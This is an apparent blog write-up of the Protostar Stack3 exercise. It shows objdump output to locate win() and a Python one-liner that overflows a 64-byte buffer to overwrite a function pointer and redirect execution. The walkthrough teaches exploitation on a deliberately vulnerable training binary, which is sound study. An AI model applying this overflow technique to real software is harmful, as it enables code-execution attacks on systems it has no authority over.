Saturday, December 13, 2014

Protostar - Stack #3


Stack3 looks at environment variables, and how they can be set, and overwriting function pointers stored on the stack (as a prelude to overwriting the saved EIP) (link)

Source Code:Stack3 seems somewhat similar to the previous 3, but we're starting to move towards the classic buffer overflow case of overwriting the saved EIP.

Here we need to overwrite the function pointer fp in such a way that it causes win() to get executed when fp is eventually called at line 20.

First, we need to find where in memory win() is located...

Running objdump -t stack3 prints:

080484f0 l     F .text    00000000              __do_global_ctors_aux
00000000 l    df *ABS*    00000000              stack3.c
0804967c l     O .got.plt    00000000              .hidden _GLOBAL_OFFSET_TABLE_
08049594 l       .ctors    00000000              .hidden __init_array_end
08049594 l       .ctors    00000000              .hidden __init_array_start
080495a8 l     O .dynamic    00000000              .hidden _DYNAMIC
0804969c  w      .data    00000000              data_start
08048480 g     F .text    00000005              __libc_csu_fini
08048370 g     F .text    00000000              _start
00000000  w      *UND*    00000000              __gmon_start__
00000000  w      *UND*    00000000              _Jv_RegisterClasses
08048538 g     O .rodata    00000004              _fp_hw
0804851c g     F .fini    00000000              _fini
00000000       F *UND*    00000000              gets@@GLIBC_2.000000000       F *UND*    00000000              __libc_start_main@@GLIBC_2.0
08048424 g     F .text    00000014              win
0804853c g     O .rodata00000004              _IO_stdin_used
0804969c g       .data    00000000              __data_start
080496a0 g     O .data    00000000              .hidden __dso_handle
080495a0 g     O .dtors    00000000              .hidden __DTOR_END__
08048490 g     F .text    0000005a              __libc_csu_init
00000000       F *UND*    00000000              printf@@GLIBC_2.0
080496a4 g       *ABS*00000000              __bss_start
080496ac g       *ABS*    00000000              _end
00000000       F *UND*    00000000              puts@@GLIBC_2.0
080496a4 g       *ABS*    00000000              _edata
080484ea g     F .text    00000000              .hidden __i686.get_pc_thunk.bx
08048438 g     F .text    00000041              main
080482e0 g     F .init    00000000              _init


The one we care about is win,which seems to be at the address 0x08048424.

Now that we know what address, the rest of the solution becomes similar to the previous levels.

Running $ python -c "print 'x'*64 + '\x24\x84\x04\x08'" | ./stack3 results in the following being printed:

calling function pointer,jumping to 0x08048424code flow successfully changed

No comments:

Post a Comment